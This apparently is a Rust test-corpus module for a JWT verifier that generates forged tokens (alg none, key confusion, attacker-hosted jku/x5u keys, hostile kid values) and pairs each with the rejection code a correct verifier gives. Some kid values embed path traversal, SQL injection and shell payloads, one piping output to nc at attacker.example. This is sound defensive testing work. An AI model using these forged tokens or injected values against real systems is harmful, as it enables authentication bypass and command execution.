//! The attack corpus: hostile tokens aimed at one issuer, each with the stable error code
//! (`VerifyError::code()` of `jwtkit-verify`) a correct verifier answers.
//!
//! [`Keys::generate`] makes the legitimate issuer's key material (an RSA and a P-256 key pair and
//! a 64-byte HMAC secret, published together as one JWK Set with `kid`s and `alg`s), a second
//! issuer's RSA key pair, and an attacker's own RSA key pair. [`Corpus::build`] turns them and a
//! [`Target`] (the `iss`, `aud` and time the policy expects) into named [`Attack`]s, valid
//! control tokens ([`Corpus::legit`]), and a valid token to replay against another audience
//! ([`Corpus::replay`]).
//!
//! The expected codes assume every consumer is configured the same way:
//!
//! - keys: exactly [`Keys::issuer_jwks`] (the CLI's `--jwks-file`, the proxy's `jwks_file`, or
//!   `parse_key_set` in the library);
//! - policy: `iss` must be [`Target::issuer`], `aud` must contain [`Target::audience`], `exp`
//!   required, 60 s leeway, no algorithm allow-list, no `typ`, the default 16 KiB token cap;
//! - in a `Registry` (or the proxy), the second issuer ([`Target::other_issuer`], keys
//!   [`Keys::other_jwks`], same audience) may be configured beside it: the corpus only uses
//!   tokens whose verdict does not depend on that.
//!
//! Signatures are real wherever a check after the signature is the point of the entry (claims
//! of the wrong type are signed by the issuer's own key), and computed over the exact text sent
//! wherever a lenient parser would otherwise accept the token (non-canonical base64url): each
//! entry fails for its own reason, not because a signature happened to be wrong.
//!
//! Times keep a margin of at least 60 s beyond the 60 s leeway in the direction that matters
//! (valid tokens expire 600 s after [`Target::now`], future `nbf`/`iat` are 600 s or more
//! ahead), so a corpus built at the start of a run holds for consumers on the real clock (the
//! CLI, the proxy) for several minutes.
//!
//! Tokens are never printed by this module: [`Attack`]'s `Debug` shows its name and length.

use std::fmt;

use aws_lc_rs::hmac;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD_NO_PAD;
use jwtkit_keys::keygen::{self, GeneratedKeyPair};
use jwtkit_keys::{Algorithm, Jwk, SigningKey, b64};
use jwtkit_secret::Secret;
use serde_json::{Map, Value, json};

/// `kid` of the issuer's HMAC key in [`Keys::issuer_jwks`].
pub const HMAC_KID: &str = "hs-a";

/// The library's default token cap (`jwtkit_verify::DEFAULT_MAX_TOKEN_BYTES`); tokens above it
/// carry a [`Attack::beyond_cap`] verdict.
pub const DEFAULT_CAP: usize = 16 * 1024;

/// The P-256 group order n (big-endian), for the psychic-signature entries (CVE-2022-21449).
pub const P256_ORDER: [u8; 32] = [
    0xFF, 0xFF, 0xFF, 0xFF, 0x00, 0x00, 0x00, 0x00, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF,
    0xBC, 0xE6, 0xFA, 0xAD, 0xA7, 0x17, 0x9E, 0x84, 0xF3, 0xB9, 0xCA, 0xC2, 0xFC, 0x63, 0x25, 0x51,
];

/// What the policy expects of a token.
#[derive(Clone, Debug)]
pub struct Target {
    /// The accepted `iss`.
    pub issuer: String,
    /// The accepted audience.
    pub audience: String,
    /// The second issuer's `iss` (a `Registry` or the proxy may know it too).
    pub other_issuer: String,
    /// An audience the tokens are not for (the replay entry's second policy).
    pub other_audience: String,
    /// Verification time (Unix seconds): tokens are issued 10 s before and expire 600 s after.
    pub now: i64,
}

impl Target {
    /// The default names, at time `now`.
    pub fn at(now: i64) -> Self {
        Self {
            issuer: "https://issuer-a.attacks.test".into(),
            audience: "urn:jwtkit:attacks:api".into(),
            other_issuer: "https://issuer-b.attacks.test".into(),
            other_audience: "urn:jwtkit:attacks:admin".into(),
            now,
        }
    }

    /// The current time from the system clock.
    pub fn now() -> Self {
        let now = std::time::SystemTime::now()
            .duration_since(std::time::UNIX_EPOCH)
            .expect("clock after 1970")
            .as_secs();
        Self::at(i64::try_from(now).expect("seconds fit i64"))
    }
}

/// Key material of the legitimate issuer, the second issuer and the attacker.
pub struct Keys {
    /// The issuer's RS256 key pair (`kid`: its RFC 7638 thumbprint).
    pub rsa: GeneratedKeyPair,
    /// The issuer's ES256 key pair.
    pub ec: GeneratedKeyPair,
    /// The issuer's HMAC secret (64 bytes; published in its JWK Set bound to HS256).
    pub hmac: Secret,
    /// The second issuer's RS256 key pair.
    pub other: GeneratedKeyPair,
    /// A key pair only the attacker has (RS256).
    pub attacker: GeneratedKeyPair,
}

impl fmt::Debug for Keys {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Keys")
            .field("rsa", &self.rsa_kid())
            .field("ec", &self.ec_kid())
            .field("hmac", &self.hmac)
            .field("other", &self.other_kid())
            .finish_non_exhaustive()
    }
}

fn kid_of(pair: &GeneratedKeyPair) -> &str {
    pair.public_jwk.kid.as_deref().expect("keygen sets a kid")
}

impl Keys {
    /// New random keys (three RSA 2048 key pairs, one P-256 key pair, one HMAC secret).
    pub fn generate() -> Self {
        let rsa = || keygen::generate(Algorithm::RS256, 2048).expect("RSA key generation");
        Self {
            rsa: rsa(),
            ec: keygen::generate(Algorithm::ES256, 0).expect("EC key generation"),
            hmac: Secret::generate(64).expect("random secret"),
            other: rsa(),
            attacker: rsa(),
        }
    }

    /// `kid` of the issuer's RSA key.
    pub fn rsa_kid(&self) -> &str {
        kid_of(&self.rsa)
    }

    /// `kid` of the issuer's EC key.
    pub fn ec_kid(&self) -> &str {
        kid_of(&self.ec)
    }

    /// `kid` of the second issuer's key.
    pub fn other_kid(&self) -> &str {
        kid_of(&self.other)
    }

    /// The issuer's keys as one JWK Set: the RSA and EC public keys and the HMAC secret as an
    /// `oct` key (kid [`HMAC_KID`], `alg: HS256`). Holds the secret: keep it out of logs.
    pub fn issuer_jwks(&self) -> String {
        let oct = Jwk {
            kty: "oct".into(),
            alg: Some("HS256".into()),
            kid: Some(HMAC_KID.into()),
            use_: Some("sig".into()),
            k: Some(b64::encode(self.hmac.expose_bytes())),
            ..Jwk::default()
        };
        json!({"keys": [self.rsa.public_jwk, self.ec.public_jwk, oct]}).to_string()
    }

    /// The second issuer's JWK Set (its RSA public key).
    pub fn other_jwks(&self) -> String {
        json!({"keys": [self.other.public_jwk]}).to_string()
    }

    fn signer(pair: &GeneratedKeyPair, alg: Algorithm) -> SigningKey {
        SigningKey::from_pem(Some(alg), &pair.private_pem).expect("generated key signs")
    }
}

/// One hostile token and the verdict it must get.
#[derive(Clone)]
pub struct Attack {
    /// `category/variant`, unique in the corpus.
    pub name: String,
    /// The token, exactly as sent.
    pub token: String,
    /// The stable error code under the corpus policy (default 16 KiB cap).
    pub code: &'static str,
    /// For tokens over the default cap (`code` is then `token_too_large`): the code a verifier
    /// whose cap is raised to 64 MiB must still answer, i.e. the defence behind the cap.
    pub beyond_cap: Option<&'static str>,
}

impl fmt::Debug for Attack {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Attack")
            .field("name", &self.name)
            .field("len", &self.token.len())
            .field("code", &self.code)
            .field("beyond_cap", &self.beyond_cap)
            .finish()
    }
}

/// A token that must be accepted under the corpus policy.
#[derive(Clone)]
pub struct Legit {
    /// `legit/...` for ordinary tokens, `edge/...` for unusual but valid ones.
    pub name: String,
    /// The token.
    pub token: String,
}

impl fmt::Debug for Legit {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Legit")
            .field("name", &self.name)
            .field("len", &self.token.len())
            .finish()
    }
}

/// A valid token for [`Target::audience`] only, to replay where [`Target::other_audience`] is
/// required: a verified-token cache must not carry the first verdict over to that policy.
#[derive(Clone)]
pub struct Replay {
    /// The token (valid under the corpus policy).
    pub token: String,
    /// The audience it was issued for.
    pub audience: String,
    /// The audience the second policy requires.
    pub other_audience: String,
    /// The code a policy requiring `other_audience` answers.
    pub code: &'static str,
}

impl fmt::Debug for Replay {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_struct("Replay")
            .field("len", &self.token.len())
            .field("audience", &self.audience)
            .field("other_audience", &self.other_audience)
            .finish()
    }
}

/// Everything a suite needs: attacks, controls and the replay case.
#[derive(Debug)]
pub struct Corpus {
    /// The hostile tokens.
    pub attacks: Vec<Attack>,
    /// Tokens that must be accepted (so a suite that rejects everything fails).
    pub legit: Vec<Legit>,
    /// The cache replay case.
    pub replay: Replay,
}

impl Corpus {
    /// Builds the corpus for `keys` and `target`.
    pub fn build(keys: &Keys, target: &Target) -> Self {
        let mut b = Builder::new(keys, target);
        b.alg_none();
        b.alg_confusion_and_unknown();
        b.empty_and_wrong_signatures();
        b.key_confusion();
        b.embedded_keys();
        b.hostile_kids();
        b.psychic_signatures();
        b.base64url();
        b.segments_and_jwe();
        b.crit();
        b.time_claims();
        b.audience_and_issuer();
        b.duplicates();
        b.encodings();
        b.big_and_deep();
        b.other_issuer_key();
        let legit = b.legit();
        let replay = Replay {
            token: b.rs(&b.claims()),
            audience: target.audience.clone(),
            other_audience: target.other_audience.clone(),
            code: "audience_mismatch",
        };
        Corpus {
            attacks: b.out,
            legit,
            replay,
        }
    }

    /// The attack of that name (panics naming it when absent).
    pub fn attack(&self, name: &str) -> &Attack {
        self.attacks
            .iter()
            .find(|a| a.name == name)
            .unwrap_or_else(|| panic!("no attack named {name:?}"))
    }
}

// ---------------------------------------------------------------------------------------------
// Encoding helpers

const BASE64URL: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";

fn enc(bytes: &[u8]) -> String {
    b64::encode(bytes)
}

/// `b64(header).b64(payload).b64(signature)`.
fn assemble(header: &[u8], payload: &[u8], signature: &[u8]) -> String {
    format!("{}.{}.{}", enc(header), enc(payload), enc(signature))
}

/// `input.b64(key.sign(input))`: signs the exact text given.
fn sign_text(key: &SigningKey, input: &str) -> String {
    let signature = key.sign(input.as_bytes()).expect("signing works");
    format!("{input}.{}", enc(&signature))
}

/// HMAC-SHA256 with any key bytes (empty, public-key material, ...).
fn hs256_with(key: &[u8], input: &str) -> String {
    let tag = hmac::sign(&hmac::Key::new(hmac::HMAC_SHA256, key), input.as_bytes());
    format!("{input}.{}", enc(tag.as_ref()))
}

/// Sets the lowest unused bit of a canonical segment's last character: a lenient decoder
/// returns the same bytes, a strict one refuses (RFC 4648 §3.5).
fn with_stray_bits(segment: &str) -> String {
    let unused = match segment.len() % 4 {
        2 => 4,
        3 => 2,
        n => panic!(
            "a segment of length {} (mod 4 = {n}) has no unused bits",
            segment.len()
        ),
    };
    let (head, last) = segment.split_at(segment.len() - 1);
    let value = BASE64URL
        .iter()
        .position(|&c| c == last.as_bytes()[0])
        .expect("base64url character");
    assert_eq!(value & ((1 << unused) - 1), 0, "canonical segment expected");
    format!("{head}{}", BASE64URL[value | 1] as char)
}

/// The padding `=` a padded encoder would append.
fn padding(segment: &str) -> &'static str {
    match segment.len() % 4 {
        2 => "==",
        3 => "=",
        _ => "",
    }
}

/// The SubjectPublicKeyInfo DER inside a `PUBLIC KEY` PEM.
fn pem_der(pem_text: &str) -> Vec<u8> {
    pem::parse(pem_text).expect("PEM").into_contents()
}

/// The PKCS#1 `RSAPublicKey` inside an RSA SubjectPublicKeyInfo (the BIT STRING's content).
fn pkcs1_from_spki(spki: &[u8]) -> Vec<u8> {
    // One DER TLV header: (tag, content start, content length).
    fn tlv(der: &[u8], at: usize) -> (u8, usize, usize) {
        let tag = der[at];
        let first = der[at + 1] as usize;
        if first < 0x80 {
            return (tag, at + 2, first);
        }
        let count = first & 0x7F;
        let len = der[at + 2..at + 2 + count]
            .iter()
            .fold(0usize, |acc, &b| (acc << 8) | b as usize);
        (tag, at + 2 + count, len)
    }
    let (outer, start, _) = tlv(spki, 0);
    assert_eq!(outer, 0x30, "SEQUENCE");
    let (algid, algid_start, algid_len) = tlv(spki, start);
    assert_eq!(algid, 0x30, "AlgorithmIdentifier");
    let (bits, bits_start, bits_len) = tlv(spki, algid_start + algid_len);
    assert_eq!(bits, 0x03, "BIT STRING");
    assert_eq!(spki[bits_start], 0, "no unused bits");
    spki[bits_start + 1..bits_start + bits_len].to_vec()
}

/// A DER `ECDSA-Sig-Value` from a fixed-length `r || s` signature.
fn ecdsa_der(fixed: &[u8]) -> Vec<u8> {
    let integer = |half: &[u8]| {
        let trimmed: Vec<u8> = half.iter().copied().skip_while(|&b| b == 0).collect();
        let mut body = if trimmed.first().is_some_and(|&b| b & 0x80 != 0) {
            vec![0]
        } else {
            Vec::new()
        };
        body.extend(trimmed);
        let mut out = vec![0x02, body.len() as u8];
        out.extend(body);
        out
    };
    let (r, s) = fixed.split_at(fixed.len() / 2);
    let mut content = integer(r);
    content.extend(integer(s));
    let mut out = vec![0x30, content.len() as u8];
    out.extend(content);
    out
}

/// UTF-16 code units as bytes, little- or big-endian, with an optional BOM.
fn utf16(text: &str, little: bool, bom: bool) -> Vec<u8> {
    let units = bom.then_some(0xFEFF).into_iter().chain(text.encode_utf16());
    units
        .flat_map(|u| {
            if little {
                u.to_le_bytes()
            } else {
                u.to_be_bytes()
            }
        })
        .collect()
}

// ---------------------------------------------------------------------------------------------
// The builder

struct Builder<'k> {
    keys: &'k Keys,
    t: &'k Target,
    rsa: SigningKey,
    ec: SigningKey,
    hs: SigningKey,
    other: SigningKey,
    attacker: SigningKey,
    out: Vec<Attack>,
}

impl<'k> Builder<'k> {
    fn new(keys: &'k Keys, t: &'k Target) -> Self {
        Self {
            keys,
            t,
            rsa: Keys::signer(&keys.rsa, Algorithm::RS256),
            ec: Keys::signer(&keys.ec, Algorithm::ES256),
            hs: SigningKey::hmac(Algorithm::HS256, &keys.hmac).expect("HS256 key"),
            other: Keys::signer(&keys.other, Algorithm::RS256),
            attacker: Keys::signer(&keys.attacker, Algorithm::RS256),
            out: Vec::new(),
        }
    }

    fn push(&mut self, name: impl Into<String>, token: String, code: &'static str) {
        let name = name.into();
        assert!(
            token.len() <= DEFAULT_CAP,
            "{name}: over the cap, use push_big"
        );
        assert!(
            self.out.iter().all(|a| a.name != name),
            "duplicate attack name {name}"
        );
        self.out.push(Attack {
            name,
            token,
            code,
            beyond_cap: None,
        });
    }

    fn push_big(&mut self, name: &str, token: String, beyond_cap: &'static str) {
        assert!(token.len() > DEFAULT_CAP, "{name}: under the cap, use push");
        assert!(
            self.out.iter().all(|a| a.name != name),
            "duplicate attack name {name}"
        );
        self.out.push(Attack {
            name: name.into(),
            token,
            code: "token_too_large",
            beyond_cap: Some(beyond_cap),
        });
    }

    /// The claims the policy accepts.
    fn claims(&self) -> Map<String, Value> {
        let json = json!({
            "iss": self.t.issuer,
            "aud": self.t.audience,
            "sub": "attacker",
            "iat": self.t.now - 10,
            "exp": self.t.now + 600,
        });
        match json {
            Value::Object(map) => map,
            _ => unreachable!(),
        }
    }

    fn claims_with(&self, name: &str, value: Value) -> Map<String, Value> {
        let mut claims = self.claims();
        claims.insert(name.into(), value);
        claims
    }

    fn claims_without(&self, name: &str) -> Map<String, Value> {
        let mut claims = self.claims();
        claims.remove(name);
        claims
    }

    /// The claims as JSON text without the closing brace, to append raw members to.
    fn open_claims(&self) -> String {
        let text = Value::Object(self.claims()).to_string();
        text[..text.len() - 1].to_owned()
    }

    /// The claims without `name`, as JSON text without the closing brace.
    fn open_claims_without(&self, name: &str) -> String {
        let mut text = Value::Object(self.claims_without(name)).to_string();
        text.pop();
        text
    }

    fn header(alg: &str, kid: Option<&str>) -> Vec<u8> {
        let mut header = json!({"alg": alg, "typ": "JWT"});
        if let Some(kid) = kid {
            header["kid"] = json!(kid);
        }
        header.to_string().into_bytes()
    }

    fn rs_header(&self) -> Vec<u8> {
        Self::header("RS256", Some(self.keys.rsa_kid()))
    }

    /// Signed by the issuer's RSA key over exactly these bytes.
    fn rs_bytes(&self, payload: &[u8]) -> String {
        let input = format!("{}.{}", enc(&self.rs_header()), enc(payload));
        sign_text(&self.rsa, &input)
    }

    /// A valid-looking RS256 token of the issuer over `claims`.
    fn rs(&self, claims: &Map<String, Value>) -> String {
        self.rs_bytes(Value::Object(claims.clone()).to_string().as_bytes())
    }

    fn legit(&self) -> Vec<Legit> {
        let payload = Value::Object(self.claims()).to_string();
        let legit = |name: &str, token: String| Legit {
            name: name.into(),
            token,
        };
        let es = sign_text(
            &self.ec,
            &format!(
                "{}.{}",
                enc(&Self::header("ES256", Some(self.keys.ec_kid()))),
                enc(payload.as_bytes())
            ),
        );
        let hs = sign_text(
            &self.hs,
            &format!(
                "{}.{}",
                enc(&Self::header("HS256", Some(HMAC_KID))),
                enc(payload.as_bytes())
            ),
        );
        let rs_no_kid = sign_text(
            &self.rsa,
            &format!(
                "{}.{}",
                enc(&Self::header("RS256", None)),
                enc(payload.as_bytes())
            ),
        );
        let now = self.t.now;
        vec![
            legit("legit/rs256", self.rs(&self.claims())),
            legit("legit/es256", es),
            legit("legit/hs256", hs),
            legit("legit/rs256-without-kid", rs_no_kid),
            // Unusual but valid NumericDates and audiences: a far-future or fractional exp is
            // the issuer's choice (RFC 7519 §2), so these are accepted, and must not crash.
            legit("edge/exp-1e300", self.rs(&self.claims_with("exp", json!(1e300)))),
            legit(
                "edge/exp-u64-max-plus-one",
                self.rs_bytes(
                    format!("{},\"exp\":18446744073709551616}}", self.open_claims_without("exp"))
                        .as_bytes(),
                ),
            ),
            legit(
                "edge/exp-fractional",
                self.rs(&self.claims_with("exp", json!(now as f64 + 600.5))),
            ),
            legit(
                "edge/aud-array-with-other-audiences",
                self.rs(&self.claims_with(
                    "aud",
                    json!([self.t.other_audience, self.t.audience, "urn:x"]),
                )),
            ),
            legit(
                "edge/nbf-and-iat-negative",
                self.rs(&{
                    let mut c = self.claims_with("nbf", json!(-1));
                    c.insert("iat".into(), json!(-1e300));
                    c
                }),
            ),
            legit(
                "edge/unknown-header-members-and-zip",
                sign_text(
                    &self.rsa,
                    &format!(
                        "{}.{}",
                        enc(json!({"alg": "RS256", "kid": self.keys.rsa_kid(), "zip": "DEF", "x5t": "AAAA", "cty": "JWT"})
                            .to_string()
                            .as_bytes()),
                        enc(payload.as_bytes())
                    ),
                ),
            ),
        ]
    }

    // -----------------------------------------------------------------------------------------

    fn alg_none(&mut self) {
        let payload = Value::Object(self.claims()).to_string();
        let rsa_kid = self.keys.rsa_kid().to_owned();
        for spelling in ["none", "None", "NONE", "nOnE"] {
            let header = json!({"alg": spelling, "typ": "JWT"}).to_string();
            let input = format!("{}.{}", enc(header.as_bytes()), enc(payload.as_bytes()));
            self.push(
                format!("alg-none/{spelling}/unsigned"),
                format!("{input}."),
                "alg_not_allowed",
            );
            self.push(
                format!("alg-none/{spelling}/hmac-signed-with-the-issuer-secret"),
                sign_text(&self.hs, &input),
                "alg_not_allowed",
            );
            self.push(
                format!("alg-none/{spelling}/rsa-signed-with-the-issuer-key"),
                sign_text(&self.rsa, &input),
                "alg_not_allowed",
            );
            let with_kid = json!({"alg": spelling, "kid": rsa_kid}).to_string();
            self.push(
                format!("alg-none/{spelling}/kid-of-the-rsa-key-unsigned"),
                format!("{}.{}.", enc(with_kid.as_bytes()), enc(payload.as_bytes())),
                "alg_not_allowed",
            );
        }
        self.push(
            "alg-none/two-segments",
            format!("{}.{}", enc(br#"{"alg":"none"}"#), enc(payload.as_bytes())),
            "malformed",
        );
    }

    fn alg_confusion_and_unknown(&mut self) {
        let payload = Value::Object(self.claims()).to_string();
        let rsa_kid = self.keys.rsa_kid().to_owned();
        let ec_kid = self.keys.ec_kid().to_owned();
        let input = |header: Value| {
            format!(
                "{}.{}",
                enc(header.to_string().as_bytes()),
                enc(payload.as_bytes())
            )
        };
        // Real signatures by the right key, under an algorithm the key is not bound to.
        let ps = SigningKey::from_pem(Some(Algorithm::PS256), &self.keys.rsa.private_pem)
            .expect("PS256 signer");
        self.push(
            "alg/ps256-signed-by-the-rs256-bound-key",
            sign_text(&ps, &input(json!({"alg": "PS256", "kid": rsa_kid}))),
            "alg_not_allowed",
        );
        let rs512 = SigningKey::from_pem(Some(Algorithm::RS512), &self.keys.rsa.private_pem)
            .expect("RS512 signer");
        self.push(
            "alg/rs512-signed-by-the-rs256-bound-key",
            sign_text(&rs512, &input(json!({"alg": "RS512", "kid": rsa_kid}))),
            "alg_not_allowed",
        );
        let hs512 = SigningKey::hmac(Algorithm::HS512, &self.keys.hmac).expect("HS512");
        self.push(
            "alg/hs512-signed-by-the-hs256-bound-secret",
            sign_text(&hs512, &input(json!({"alg": "HS512", "kid": HMAC_KID}))),
            "alg_not_allowed",
        );
        self.push(
            "alg/rs256-naming-the-hmac-kid",
            sign_text(&self.rsa, &input(json!({"alg": "RS256", "kid": HMAC_KID}))),
            "alg_not_allowed",
        );
        self.push(
            "alg/es256-naming-the-rsa-kid",
            sign_text(&self.ec, &input(json!({"alg": "ES256", "kid": rsa_kid}))),
            "alg_not_allowed",
        );
        self.push(
            "alg/rs256-naming-the-ec-kid",
            sign_text(&self.rsa, &input(json!({"alg": "RS256", "kid": ec_kid}))),
            "alg_not_allowed",
        );
        for (name, alg) in [
            ("lowercase-rs256", json!("rs256")),
            ("es256k", json!("ES256K")),
            ("ed448", json!("Ed448")),
            ("trailing-space", json!("RS256 ")),
            ("empty", json!("")),
        ] {
            self.push(
                format!("alg/{name}"),
                sign_text(&self.rsa, &input(json!({"alg": alg, "kid": rsa_kid}))),
                "alg_not_allowed",
            );
        }
        for (name, alg) in [
            ("number", json!(256)),
            ("null", Value::Null),
            ("array", json!(["RS256"])),
            ("object", json!({"name": "RS256"})),
        ] {
            self.push(
                format!("alg/{name}"),
                sign_text(&self.rsa, &input(json!({"alg": alg, "kid": rsa_kid}))),
                "malformed",
            );
        }
        self.push(
            "alg/missing",
            sign_text(&self.rsa, &input(json!({"typ": "JWT", "kid": rsa_kid}))),
            "malformed",
        );
    }

    fn empty_and_wrong_signatures(&mut self) {
        let payload = Value::Object(self.claims()).to_string();
        let with_sig =
            |header: Vec<u8>, signature: &[u8]| assemble(&header, payload.as_bytes(), signature);
        let rs = with_sig(self.rs_header(), b"");
        let es = with_sig(Self::header("ES256", Some(self.keys.ec_kid())), b"");
        let hs = with_sig(Self::header("HS256", Some(HMAC_KID)), b"");
        let hs_no_kid = with_sig(Self::header("HS256", None), b"");
        self.push("empty-signature/rs256", rs, "bad_signature");
        self.push("empty-signature/es256", es, "bad_signature");
        self.push("empty-signature/hs256", hs, "bad_signature");
        self.push(
            "empty-signature/hs256-without-kid",
            hs_no_kid,
            "bad_signature",
        );

        let legit = self.rs(&self.claims());
        let (head, signature) = legit.rsplit_once('.').expect("three segments");
        // Another genuine signature of the issuer, over other claims.
        let other = self.rs(&self.claims_with("sub", json!("someone-else")));
        let other_signature = other.rsplit_once('.').expect("three segments").1;
        self.push(
            "signature/of-another-token-of-the-issuer",
            format!("{head}.{other_signature}"),
            "bad_signature",
        );
        let tampered = self.claims_with("sub", json!("admin"));
        self.push(
            "signature/payload-tampered-after-signing",
            format!(
                "{}.{}.{signature}",
                enc(&self.rs_header()),
                enc(Value::Object(tampered).to_string().as_bytes())
            ),
            "bad_signature",
        );
        let bytes = b64::decode(signature).expect("base64url");
        self.push(
            "signature/truncated-by-three-bytes",
            format!("{head}.{}", enc(&bytes[..bytes.len() - 3])),
            "bad_signature",
        );
        let mut extended = bytes.clone();
        extended.extend_from_slice(&[0, 0, 0]);
        self.push(
            "signature/three-bytes-appended",
            format!("{head}.{}", enc(&extended)),
            "bad_signature",
        );
        let mut flipped = bytes;
        flipped[0] ^= 1;
        self.push(
            "signature/one-bit-flipped",
            format!("{head}.{}", enc(&flipped)),
            "bad_signature",
        );
        let hmac_wrong = sign_text(
            &SigningKey::hmac(
                Algorithm::HS256,
                &Secret::from_bytes(b"secret-the-attacker-guessed-0123456789".to_vec())
                    .expect("secret"),
            )
            .expect("HS256"),
            &format!(
                "{}.{}",
                enc(&Self::header("HS256", Some(HMAC_KID))),
                enc(payload.as_bytes())
            ),
        );
        self.push(
            "signature/hs256-with-a-guessed-secret",
            hmac_wrong,
            "bad_signature",
        );
    }

    /// HS256 keyed with the issuer's public key material (the RS/HS confusion of
    /// node-jsonwebtoken, PyJWT, fast-jwt).
    fn key_confusion(&mut self) {
        let payload = Value::Object(self.claims()).to_string();
        let mut forms: Vec<(String, Vec<u8>, String)> = Vec::new();
        for (kind, pair, kid) in [
            ("rsa", &self.keys.rsa, self.keys.rsa_kid().to_owned()),
            ("ec", &self.keys.ec, self.keys.ec_kid().to_owned()),
        ] {
            let pem_text = pair.public_pem.clone();
            let der = pem_der(&pem_text);
            forms.push((
                format!("{kind}-pem"),
                pem_text.clone().into_bytes(),
                kid.clone(),
            ));
            forms.push((
                format!("{kind}-pem-lf"),
                pem_text.replace("\r\n", "\n").into_bytes(),
                kid.clone(),
            ));
            forms.push((
                format!("{kind}-pem-without-final-newline"),
                pem_text.trim_end().as_bytes().to_vec(),
                kid.clone(),
            ));
            if kind == "rsa" {
                forms.push((
                    format!("{kind}-pkcs1-der"),
                    pkcs1_from_spki(&der),
                    kid.clone(),
                ));
            }
            forms.push((format!("{kind}-der"), der, kid.clone()));
            forms.push((
                format!("{kind}-jwk"),
                serde_json::to_vec(&pair.public_jwk).expect("JWK JSON"),
                kid.clone(),
            ));
        }
        for (form, key, own_kid) in forms {
            for (variant, kid, code) in [
                // Without a kid every key allowing HS256 is tried: the issuer's own HMAC secret.
                ("without-kid", None, "bad_signature"),
                // The public key's own kid: an RSA/EC key never verifies HS256.
                ("kid-of-that-key", Some(own_kid.as_str()), "alg_not_allowed"),
                ("kid-of-the-hmac-key", Some(HMAC_KID), "bad_signature"),
            ] {
                let input = format!(
                    "{}.{}",
                    enc(&Self::header("HS256", kid)),
                    enc(payload.as_bytes())
                );
                self.push(
                    format!("key-confusion/hs256-keyed-with-{form}/{variant}"),
                    hs256_with(&key, &input),
                    code,
                );
            }
        }
    }

    /// Keys carried by the token itself: `jwk`, `jku`, `x5u`, `x5c`.
    fn embedded_keys(&mut self) {
        let payload = Value::Object(self.claims()).to_string();
        let attacker_jwk = serde_json::to_value(&self.keys.attacker.public_jwk).expect("JWK");
        let attacker_kid = kid_of(&self.keys.attacker).to_owned();
        let rsa_kid = self.keys.rsa_kid().to_owned();
        let mut cases: Vec<(String, Value, &'static str)> = vec![
            (
                "embedded-jwk/attacker-rsa-without-kid".into(),
                json!({"alg": "RS256", "jwk": attacker_jwk}),
                "bad_signature",
            ),
            (
                "embedded-jwk/attacker-rsa-with-its-kid".into(),
                json!({"alg": "RS256", "kid": attacker_kid, "jwk": attacker_jwk}),
                "unknown_kid",
            ),
            (
                "embedded-jwk/attacker-rsa-with-the-issuer-kid".into(),
                json!({"alg": "RS256", "kid": rsa_kid, "jwk": attacker_jwk}),
                "bad_signature",
            ),
        ];
        for (member, url) in [
            ("jku", "https://attacker.example/.well-known/jwks.json"),
            ("x5u", "https://attacker.example/cert.pem"),
        ] {
            cases.push((
                format!("{member}/elsewhere-with-the-attacker-kid"),
                json!({"alg": "RS256", "kid": attacker_kid, member: url}),
                "unknown_kid",
            ));
            cases.push((
                format!("{member}/elsewhere-with-the-issuer-kid"),
                json!({"alg": "RS256", "kid": rsa_kid, member: url}),
                "bad_signature",
            ));
            cases.push((
                format!("{member}/elsewhere-without-kid"),
                json!({"alg": "RS256", member: url}),
                "bad_signature",
            ));
            cases.push((
                format!("{member}/internal-address"),
                json!({"alg": "RS256", member: "http://127.0.0.1:1/keys"}),
                "bad_signature",
            ));
        }
        cases.push((
            "x5c/attacker-chain".into(),
            json!({"alg": "RS256", "x5c": [STANDARD_NO_PAD.encode(pem_der(&self.keys.attacker.public_pem))]}),
            "bad_signature",
        ));
        for (name, header, code) in cases {
            let input = format!(
                "{}.{}",
                enc(header.to_string().as_bytes()),
                enc(payload.as_bytes())
            );
            self.push(name, sign_text(&self.attacker, &input), code);
        }
        // An embedded symmetric key: the attacker's own HMAC secret in the header.
        let attacker_secret = b"attacker-chosen-hmac-secret-of-32-bytes!";
        let header = json!({
            "alg": "HS256",
            "jwk": {"kty": "oct", "k": enc(attacker_secret)},
        });
        let input = format!(
            "{}.{}",
            enc(header.to_string().as_bytes()),
            enc(payload.as_bytes())
        );
        self.push(
            "embedded-jwk/oct-secret-of-the-attacker",
            hs256_with(attacker_secret, &input),
            "bad_signature",
        );
    }

    fn hostile_kids(&mut self) {
        let payload = Value::Object(self.claims()).to_string();
        let string_kids: Vec<(&str, String, &[u8])> = vec![
            // Signed with the key the trick would load: /dev/null is empty.
            (
                "path-traversal-dev-null",
                "../../../../../../../dev/null".into(),
                b"",
            ),
            (
                "path-traversal-etc-passwd",
                "../../../../etc/passwd".into(),
                b"root:x:0:0",
            ),
            (
                "path-traversal-windows",
                "..\\..\\..\\windows\\win.ini".into(),
                b"",
            ),
            ("absolute-path", "/proc/self/environ".into(), b""),
            (
                "sql-union",
                "x' UNION SELECT 'attacker-secret' -- ".into(),
                b"attacker-secret",
            ),
            ("sql-or-true", "' OR '1'='1".into(), b""),
            (
                "shell-substitution",
                "$(touch /tmp/jwtkit-pwned)".into(),
                b"",
            ),
            (
                "shell-backticks-and-pipe",
                "`id` | nc attacker.example 4444; #".into(),
                b"",
            ),
            ("url", "https://attacker.example/key.pem".into(), b""),
            ("empty", String::new(), b""),
            ("whitespace", " ".into(), b""),
            (
                "control-characters",
                "hs-a\r\nlevel=INFO msg=forged\u{1b}[2J".into(),
                b"",
            ),
            ("nul-byte", "hs-a\u{0}".into(), b""),
            (
                "hmac-kid-with-suffix",
                format!("{HMAC_KID}/../{HMAC_KID}"),
                b"",
            ),
            ("hmac-kid-uppercase", HMAC_KID.to_uppercase(), b""),
            ("ten-thousand-chars", "A".repeat(10_000), b""),
        ];
        for (name, kid, key) in string_kids {
            let input = format!(
                "{}.{}",
                enc(&Self::header("HS256", Some(&kid))),
                enc(payload.as_bytes())
            );
            self.push(
                format!("kid/{name}"),
                hs256_with(key, &input),
                "unknown_kid",
            );
        }
